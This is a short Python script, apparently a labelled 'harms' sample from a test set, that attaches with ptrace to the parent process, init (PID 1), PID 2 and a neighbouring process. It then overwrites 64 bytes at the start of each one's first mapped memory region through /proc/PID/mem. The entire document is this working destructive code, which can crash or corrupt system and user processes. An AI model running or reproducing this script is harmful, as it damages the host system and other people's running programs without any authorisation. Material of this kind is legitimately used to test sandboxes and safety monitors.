# where: first
# kind: harms
# does: Other processes are attached to and their memory is written.
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for number in (os.getppid(), 1, 2, os.getpid() - 1):
    print(number, libc.ptrace(16, number, 0, 0), os.strerror(ctypes.get_errno()))
    try:
        with open(f"/proc/{number}/mem", "r+b", buffering=0) as memory:
            line = open(f"/proc/{number}/maps").readline()
            memory.seek(int(line.split("-")[0], 16))
            memory.write(b"\x00" * 64)
    except Exception as error:
        print(error)
